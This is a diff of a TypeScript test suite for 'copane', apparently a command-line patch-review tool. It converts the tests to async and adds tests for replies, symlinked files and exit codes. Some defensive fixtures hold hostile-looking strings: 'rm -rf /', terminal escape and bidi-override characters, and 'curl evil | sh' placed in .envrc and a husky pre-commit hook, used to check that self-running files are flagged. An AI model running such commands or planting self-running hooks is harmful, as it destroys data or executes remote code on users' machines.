@@ -1,8 +1,9 @@
 /** The review from scripts: data on stdout, words on stderr, and an exit code that tells outcomes apart. */
 import { spawnSync } from 'node:child_process';
-import { mkdirSync, writeFileSync } from 'node:fs';
+import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterEach, beforeEach, expect, test } from 'vitest';
+import { envBelow, runCli } from '../../helpers/cli.ts';
 import { git, makeFolder, makeRepository, patchTo, putTree, readText } from '../../helpers/git-fixture.ts';
 import { COPANE } from '../../helpers/product.ts';
 import { removeTree } from '../../helpers/remove-tree.ts';
@@ -22,28 +23,15 @@ afterEach(() => {
   for (const folder of [root, home]) removeTree(folder);
 });
 
-function copane(args: readonly string[], input: string | Buffer = '') {
-  const { TMUX: _, TMUX_PANE: __, CI: ___, COPANE_SOCKET: ____, ...env } = process.env;
-  const run = spawnSync(COPANE, args, {
-    cwd: root,
-    encoding: 'utf8',
-    maxBuffer: 1 << 26,
-    input,
-    env: {
-      ...env,
-      HOME: home,
-      XDG_RUNTIME_DIR: path.join(home, 'run'),
-      XDG_STATE_HOME: path.join(home, 'state'),
-      XDG_CONFIG_HOME: path.join(home, 'config'),
-    },
-  });
-  return { code: run.status, out: run.stdout, err: run.stderr };
-}
+const copane = (args: readonly string[], input: string | Buffer = '') =>
+  runCli(args, { cwd: root, env: envBelow(home), input });
+const json = async (args: readonly string[], input: string | Buffer = '') =>
+  JSON.parse((await copane([...args, '--json'], input)).out);
 
-test('publish, show, decide, undo, redo, finish', () => {
+test('publish, show, decide, undo, redo, finish', async () => {
   const patch = path.join(home, 'p.diff');
   writeFileSync(patch, patchTo(root, { f: want }));
-  const published = copane([
+  const published = await copane([
     'publish',
     '--patch',
     patch,
@@ -64,11 +52,11 @@ test('publish, show, decide, undo, redo, finish', () => {
     diff: expect.stringContaining('+three'),
   });
 
-  const accepted = copane(['decide', id, hunks[0].id, 'accept', '--comment', 'good', '--json']);
+  const accepted = await copane(['decide', id, hunks[0].id, 'accept', '--comment', 'good', '--json']);
   expect(JSON.parse(accepted.out)).toMatchObject({ id: hunks[0].id, status: 'accepted' });
   expect(readText(root, 'f')).toBe(base.replace('line 3\n', 'three\n'));
 
-  const said = copane([
+  const said = await copane([
     'decide',
     id,
     hunks[1].id,
@@ -86,7 +74,7 @@ test('publish, show, decide, undo, redo, finish', () => {
       { text: 'why\nso?', lines: { first: 3, last: 4 }, quote: expect.stringContaining('\n-line 15') },
     ],
   });
-  const around = copane([
+  const around = await copane([
     'decide',
     id,
     hunks[1].id,
@@ -107,50 +95,70 @@ test('publish, show, decide, undo, redo, finish', () => {
     ['comment', '--comment', 'x', '--file-lines', '9', '--lines', '1'],
     ['comment', '--comment', 'x', '--file-lines', '900'],
   ])
-    expect(copane(['decide', id, hunks[1].id, action ?? '', ...flags])).toMatchObject({ code: 2 });
-  expect(copane(['decide', id, hunks[1].id, 'comment']).code).toBe(2);
+    expect(await copane(['decide', id, hunks[1].id, action ?? '', ...flags])).toMatchObject({ code: 2 });
+  expect((await copane(['decide', id, hunks[1].id, 'comment'])).code).toBe(2);
   const total = hunks[1].diff.trimEnd().split('\n').length - 1;
   for (const lines of ['0', '0-2', `1-${total + 1}`]) {
-    const refused = copane(['decide', id, hunks[1].id, 'comment', '--comment', 'x', '--lines', lines]);
+    const refused = await copane(['decide', id, hunks[1].id, 'comment', '--comment', 'x', '--lines', lines]);
     expect(refused).toMatchObject({ code: 2, err: expect.stringContaining(`The hunk has ${total} lines;`) });
   }
-  expect(JSON.parse(copane(['undo', id, hunks[0].id, '--json']).out)).toMatchObject({ status: 'pending' });
+  expect(await json(['undo', id, hunks[0].id])).toMatchObject({
+    status: 'pending',
+  });
   expect(readText(root, 'f')).toBe(base);
-  expect(JSON.parse(copane(['redo', id.slice(0, 6), hunks[0].id.slice(0, 6), '--json']).out)).toMatchObject({
+  expect(await json(['redo', id.slice(0, 6), hunks[0].id.slice(0, 6)])).toMatchObject({
     status: 'accepted',
   });
-  expect(JSON.parse(copane(['decide', id, 'all', 'accept', '--json']).out)).toMatchObject({
+  expect(await json(['decide', id, 'all', 'accept'])).toMatchObject({
     id: hunks[1].id,
   });
   expect(readText(root, 'f')).toBe(want);
-  expect(JSON.parse(copane(['show', id.slice(0, 6), '--json']).out)).toMatchObject({
+  expect(await json(['show', id.slice(0, 6)])).toMatchObject({
     suggestion_id: id,
     status: 'complete',
   });
-  expect(copane(['suggestions']).out).toContain('complete  2/2 decided, 1 file  Two edits');
-  expect(JSON.parse(copane(['finish', id, 'finalize', '--json']).out)).toMatchObject({ status: 'finalized' });
-  expect(copane(['suggestions', '--json']).out).toBe('[]\n');
-}, 120_000);
+  expect((await copane(['suggestions'])).out).toContain('complete  2/2 decided, 1 file  Two edits');
+  expect(await json(['finish', id, 'finalize'])).toMatchObject({
+    status: 'finalized',
+  });
+  expect((await copane(['suggestions', '--json'])).out).toBe('[]\n');
+});
 
-test('a patch on stdin; lines of a hunk; an edited diff', () => {
-  const published = copane(['publish', '--json'], patchTo(root, { f: want }));
-  const { suggestion_id: id, hunks } = JSON.parse(published.out);
+test('suggestions counts what the files have now, without a companion that looks', async () => {
+  const { suggestion_id: id } = await json(['publish'], patchTo(root, { f: want }));
+  await json(['decide', id, 'all', 'accept']);
+  putTree(root, { f: base });
+  expect((await copane(['suggestions'])).out).toContain('pending  0/2 decided');
+  putTree(root, { f: want });
+  expect((await copane(['suggestions'])).out).toContain('complete  2/2 decided');
+});
+
+test('the packed program: a patch on stdin, lines of a hunk, an edited diff, an exit code', () => {
+  const packed = (args: readonly string[], input = '') => {
+    const env = envBelow(home);
+    const { status, stdout, stderr } = spawnSync(COPANE, args, { cwd: root, encoding: 'utf8', input, env });
+    return { code: status, out: stdout, err: stderr };
+  };
+  const { suggestion_id: id, hunks } = JSON.parse(
+    packed(['publish', '--json'], patchTo(root, { f: want })).out,
+  );
   const lines = hunks[1].diff.split('\n').slice(1);
   const added = lines.indexOf('+fifteen') + 1;
-  expect(
-    JSON.parse(copane(['decide', id, hunks[1].id, 'accept', '--lines', `${added}-${added}`, '--json']).out),
-  ).toMatchObject({ parent: hunks[1].id });
+  const part = packed(['decide', id, hunks[1].id, 'accept', '--lines', `${added}-${added}`, '--json']);
+  expect(JSON.parse(part.out)).toMatchObject({ parent: hunks[1].id });
   expect(readText(root, 'f')).toBe(base.replace('line 15\n', 'line 15\nfifteen\n'));
-  const edited = copane(
+  const edited = packed(
     ['decide', id, hunks[0].id, 'modify', '--diff', '-', '--json'],
     hunks[0].diff.replace('+three', '+drei'),
   );
   expect(JSON.parse(edited.out)).toMatchObject({ status: 'modified' });
   expect(readText(root, 'f')).toContain('line 2\ndrei\nline 4\n');
-}, 120_000);
+  const missing = { code: 4, out: '', err: expect.stringContaining('Suggestion not found: nope') };
+  expect(packed(['decide', 'nope', 'all', 'accept'])).toMatchObject(missing);
+});
 
-test('exit codes: 2 bad input, 3 refused, 4 not found; a reason on stderr each time', () => {
-  const { suggestion_id: id } = JSON.parse(copane(['publish', '--json'], patchTo(root, { f: want })).out);
+test('exit codes: 2 bad input, 3 refused, 4 not found; a reason on stderr each time', async () => {
+  const { suggestion_id: id } = await json(['publish'], patchTo(root, { f: want }));
   putTree(root, { f: base.replaceAll('line 3\n', 'mine\n') });
   const cases: [readonly string[], string, number, RegExp][] = [
     [['publish', '--json'], 'not a diff', 2, /not a unified diff/],
@@ -158,7 +166,6 @@ test('exit codes: 2 bad input, 3 refused, 4 not found; a reason on stderr each t
     [['publish', '--patch', 'nope.diff'], '', 2, /cannot be read/],
     [['decide', id, 'all', 'accept'], '', 3, /Hunk/],
     [['decide', id, 'nope', 'accept'], '', 4, /Hunk not found: nope/],
-    [['decide', 'nope', 'all', 'accept'], '', 4, /Suggestion not found: nope/],
     [['decide', id, 'all', 'burn'], '', 2, /burn/],
     [['show', 'nope', '--json'], '', 4, /Suggestion not found/],
     [['undo', id, 'all'], '', 3, /nothing to undo/],
@@ -166,7 +173,7 @@ test('exit codes: 2 bad input, 3 refused, 4 not found; a reason on stderr each t
     [['review', 'a', 'b', 'c'], '', 2, /Two folders are compared/],
   ];
   for (const [args, input, code, reason] of cases) {
-    const run = copane(args, input);
+    const run = await copane(args, input);
     expect({ args, code: run.code, err: run.err }).toEqual({
       args,
       code,
@@ -174,60 +181,84 @@ test('exit codes: 2 bad input, 3 refused, 4 not found; a reason on stderr each t
     });
   }
   expect(readText(root, 'f')).toBe(base.replaceAll('line 3\n', 'mine\n'));
-}, 120_000);
+});
 
-test('a review of the working tree, in place', () => {
+test('a review of the working tree, in place', async () => {
   putTree(root, { f: want, new: 'n\n' });
-  const { suggestion_id: id, in_place: inPlace, hunks } = JSON.parse(copane(['review', '--json']).out);
+  const { suggestion_id: id, in_place: inPlace, hunks } = await json(['review']);
   expect({ inPlace, hunks: hunks.length }).toEqual({ inPlace: true, hunks: 3 });
-  expect(copane(['decide', id, 'all', 'reject']).code).toBe(0);
+  expect((await copane(['decide', id, 'all', 'reject'])).code).toBe(0);
   expect(git(root, 'status', '--porcelain')).toBe('');
-  expect(copane(['undo', id, 'all']).code).toBe(0);
+  expect((await copane(['undo', id, 'all'])).code).toBe(0);
   expect(readText(root, 'f')).toBe(want);
-}, 120_000);
+});
 
-test('of very many hunks the first are said, and where the others are; a diff that is cut says so', () => {
+test('of very many hunks the first are said, and where the others are; a diff that is cut says so', async () => {
   const many = Array.from({ length: 150 * 20 }, (_, i) => `line ${i} ${'x'.repeat(1_500)}\n`);
   const edited = many.map((line, i) => (i % 20 === 10 ? `edited ${line}` : line));
   putTree(root, { many: many.join('') });
   git(root, 'add', 'many');
   git(root, 'commit', '-qm', 'many');
   putTree(root, { many: edited.join('') });
-  const reviewed = copane(['review']);
+  const reviewed = await copane(['review']);
   const id = reviewed.out.trim();
   const said = reviewed.err.split('\n').filter((line) => line !== '');
   expect(said, reviewed.err).toHaveLength(102);
   expect(said.at(-2)).toBe(`… and 50 more: "copane show ${id}" prints them all`);
   expect(said.at(-1)).toContain('150 hunks');
-  const shown = copane(['show', id]);
+  const shown = await copane(['show', id]);
   expect(shown.out.match(/^◌ /gm)).toHaveLength(150);
   expect(shown.out).not.toContain('too long to print');
   putTree(root, { many: null, f: `${'long '.repeat(400_000)}\n` });
-  const long = copane(['show', copane(['review', '--description', 'long']).out.trim()]);
+  const long = await copane(['show', (await copane(['review', '--description', 'long'])).out.trim()]);
   expect(long.out).toMatch(/^\(too long to print here in full\)$/m);
 });
 
-/** Publishes `text` as the new `f` and shows it. */
-function shown(text: string, ...more: readonly string[]): string {
-  const bytes = Buffer.from(text).toString('latin1');
-  const patch = Buffer.from(patchTo(root, { f: bytes }), 'latin1');
-  const out = copane(['publish', '--json', ...more], patch).out;
-  return copane(['show', JSON.parse(out).suggestion_id]).out;
-}
-
-test('notes of a review that was replaced are named by the one that took its place', () => {
-  putTree(root, { f: want });
-  const { id, hunks } = JSON.parse(copane(['review', '--json']).out);
-  copane(['decide', id, hunks[0].id, 'reject', '--comment', 'keep the 3']);
-  for (const name of ['new', 'newer']) {
-    putTree(root, { [name]: 'x\n' });
-    copane(['review']);
-  }
-  expect(copane(['review', '--notes']).err).toContain(`copane review --notes ${id}`);
-  expect(copane(['review', '--notes', id]).out).toContain('keep the 3');
+test('reply answers a comment, the last or the one that is named, and decides nothing', async () => {
+  const { suggestion_id: id, hunks } = await json(['publish'], patchTo(root, { f: want }));
+  const hunk = hunks[0].id;
+  const early = await copane(['reply', id, hunk, 'too early']);
+  expect([early.code, early.err]).toEqual([3, expect.stringContaining('no comment on this hunk')]);
+  for (const comment of ['first', 'second'])
+    await copane(['decide', id, hunk, 'comment', '--comment', comment]);
+  expect((await copane(['reply', id.slice(0, 6), hunk.slice(0, 6), 'to the second'])).code).toBe(0);
+  const replied = await copane(['reply', id, hunk, 'to the\nfirst', '--to', '1']);
+  expect(replied.out).toContain(
+    '# comment: first\n  #   reply: to the\n  #   first\n  # comment: second\n  #   reply: to the second\n',
+  );
+  expect((await json(['show', id])).hunks[0]).toMatchObject({ status: 'pending', comments: { length: 4 } });
+  for (const [code, ...args] of [
+    [2, ''],
+    [2, 'x', '--to', '0'],
+    [4, 'x', '--to', '5'],
+  ] as const)
+    expect((await copane(['reply', id, hunk, ...args])).code, args.join(' ')).toBe(code);
 });
 
-test('show hides no line and no character, whatever a patch, its description and its notes hold', () => {
+/** Publishes `text` as the new `f` and shows it. */
+async function shown(text: string, ...more: readonly string[]): Promise<string> {
+  const bytes = Buffer.from(text).toString('latin1');
+  const patch = Buffer.from(patchTo(root, { f: bytes }), 'latin1');
+  const out = (await copane(['publish', '--json', ...more], patch)).out;
+  return (await copane(['show', JSON.parse(out).suggestion_id])).out;
+}
+
+test('notes of a review that was replaced are named by the one that took its place', async () => {
+  putTree(root, { f: want });
+  const { id, hunks } = await json(['review']);
+  await copane(['decide', id, hunks[0].id, 'reject', '--comment', 'keep the 3']);
+  for (const name of ['new', 'newer']) {
+    putTree(root, { [name]: 'x\n' });
+    await copane(['review']);
+  }
+  expect((await copane(['review', '--notes'])).err).toContain(`copane review --notes ${id}`);
+  expect((await copane(['review', '--notes', id])).out).toContain('keep the 3');
+  expect((await copane(['reopen', id])).err).toMatch(
+    /goes on in another one.*A newer review took its place/s,
+  );
+});
+
+test('show hides no line and no character, whatever a patch, its description and its notes hold', async () => {
   const hostile = [
     'before \u001b]0;never ended',
     'rm -rf / # seen',
@@ -238,7 +269,7 @@ test('show hides no line and no character, whatever a patch, its description and
     'می‌خواهم 👩🏽‍🚀',
   ];
   const description = 'Title \u001b[2J\u202e\nmore';
-  const out = shown(
+  const out = await shown(
     `${base}${hostile.join('\n')}\n`,
     '--description',
     description,
@@ -253,51 +284,64 @@ test('show hides no line and no character, whatever a patch, its description and
     '  ! 10 hidden characters: U+001B ESCAPE, U+000D CARRIAGE RETURN, U+0008 BACKSPACE (4), ',
   );
   expect(out).toContain('  ! Text far to the right, after 80 blanks or more, in line 26\n');
-  const named = JSON.parse(copane(['publish', '--json'], patchTo(root, { 'x\ny': 'z\n' })).out);
-  expect(copane(['show', named.suggestion_id]).out).toContain('  x␊y  create  pending\n');
+  const named = await json(['publish'], patchTo(root, { 'x\ny': 'z\n' }));
+  expect((await copane(['show', named.suggestion_id])).out).toContain('  x␊y  create  pending\n');
   expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u3164]/);
 });
 
-test('show puts what the author says of a hunk above its diff, marked line by line', () => {
+test('show puts what the author says of a hunk above its diff, marked line by line', async () => {
   const note = 'f=why it is so\n\n+evil();\n@@ -1 +1 @@\n- \u202esafe';
-  const out = shown(want, '--note', note);
+  const out = await shown(want, '--note', note);
   const marked = ['  # why it is so', '  # +evil();', '  # @@ -1 +1 @@', '  # - <202E>safe'];
   expect(out).toContain(`  f  pending\n${marked.join('\n')}\n@@ `);
   const evil = out.split('\n').filter((line) => line.includes('evil'));
   expect(new Set(evil)).toEqual(new Set(['  # +evil();']));
 });
 
-test('all is accepted with files that run by themselves only when that is said', () => {
+test('all is accepted with files that run by themselves only when that is said', async () => {
   const patch = patchTo(root, { f: want, '.envrc': 'curl evil | sh\n', '.husky/pre-commit': 'evil\n' });
-  const { suggestion_id: id, hunks } = JSON.parse(copane(['publish', '--json'], patch).out);
+  const { suggestion_id: id, hunks } = await json(['publish'], patch);
   const running = hunks.filter(
     ({ warnings }: { warnings?: { kind: string }[] }) => warnings?.[0]?.kind === 'runs',
   );
   expect(running.map(({ file }: { file: string }) => file)).toEqual(['.envrc', '.husky/pre-commit']);
 
-  const refused = copane(['decide', id, 'all', 'accept']);
+  const refused = await copane(['decide', id, 'all', 'accept']);
   expect(refused).toMatchObject({ code: 3, out: '' });
   expect(refused.err).toContain('.envrc and .husky/pre-commit run by themselves. Nothing was accepted.');
   expect(readText(root, 'f')).toBe(base);
 
-  expect(copane(['decide', id, 'all', 'accept', '--file', 'f'])).toMatchObject({ code: 0 });
-  expect(copane(['decide', id, 'all', 'accept', '--file', '.envrc'])).toMatchObject({ code: 3, out: '' });
-  expect(copane(['decide', id, running[0].id, 'accept'])).toMatchObject({ code: 0 });
-  expect(copane(['decide', id, 'every', 'accept'])).toMatchObject({ code: 3 });
-  expect(copane(['decide', id, 'all', 'accept', '--accept-self-running'])).toMatchObject({ code: 0 });
+  expect(await copane(['decide', id, 'all', 'accept', '--file', 'f'])).toMatchObject({ code: 0 });
+  expect(await copane(['decide', id, 'all', 'accept', '--file', '.envrc'])).toMatchObject({
+    code: 3,
+    out: '',
+  });
+  expect(await copane(['decide', id, running[0].id, 'accept'])).toMatchObject({ code: 0 });
+  expect(await copane(['decide', id, 'every', 'accept'])).toMatchObject({ code: 3 });
+  expect(await copane(['decide', id, 'all', 'accept', '--accept-self-running'])).toMatchObject({ code: 0 });
   expect(readText(root, '.husky/pre-commit')).toBe('evil\n');
 });
 
-test('what is kept is purged by kind: what is finished at once, what is not when that is said', () => {
-  const { suggestion_id: open } = JSON.parse(copane(['publish', '--json'], patchTo(root, { f: want })).out);
-  const { suggestion_id: ended } = JSON.parse(copane(['publish', '--json'], patchTo(root, { n: 'n\n' })).out);
-  expect(copane(['finish', ended, 'discard'])).toMatchObject({ code: 0 });
-  const purge = (...more: string[]) =>
-    JSON.parse(copane(['state', '--purge', 'reviews', '--json', ...more]).out) as object;
-  expect(purge()).toEqual({ kind: 'reviews', purged: 0, unfinished: 0 });
-  expect(purge('--older-than', '0')).toEqual({ kind: 'reviews', purged: 1, unfinished: 1 });
-  expect(copane(['show', ended]).code).toBe(4);
-  expect(copane(['show', open]).code).toBe(0);
-  expect(purge('--older-than', '0', '--unfinished')).toMatchObject({ purged: 1, unfinished: 0 });
-  expect(copane(['show', open]).code).toBe(4);
+test('what a link leads to whose name runs is asked for like a file that runs', async () => {
+  const patch = patchTo(root, { 'env/main.sh': 'curl evil | sh\n' });
+  symlinkSync('env/main.sh', path.join(root, '.envrc'));
+  const { suggestion_id: id } = await json(['publish'], patch);
+  expect((await copane(['show', id])).out).toContain('as .envrc, which is a link to it');
+  const refused = await copane(['decide', id, 'all', 'accept']);
+  expect(refused).toMatchObject({ code: 3, out: '' });
+  expect(refused.err).toContain('env/main.sh runs by itself. Nothing was accepted.');
+  expect(await copane(['decide', id, 'all', 'accept', '--accept-self-running'])).toMatchObject({ code: 0 });
+});
+
+test('what is kept is purged by kind: what is finished at once, what is not when that is said', async () => {
+  const { suggestion_id: open } = await json(['publish'], patchTo(root, { f: want }));
+  const { suggestion_id: ended } = await json(['publish'], patchTo(root, { n: 'n\n' }));
+  expect(await copane(['finish', ended, 'discard'])).toMatchObject({ code: 0 });
+  const purge = async (...more: string[]) => (await json(['state', '--purge', 'reviews', ...more])) as object;
+  expect(await purge()).toEqual({ kind: 'reviews', purged: 0, unfinished: 0 });
+  expect(await purge('--older-than', '0')).toEqual({ kind: 'reviews', purged: 1, unfinished: 1 });
+  expect((await copane(['show', ended])).code).toBe(4);
+  expect((await copane(['show', open])).code).toBe(0);
+  expect(await purge('--older-than', '0', '--unfinished')).toMatchObject({ purged: 1, unfinished: 0 });
+  expect((await copane(['show', open])).code).toBe(4);
 });
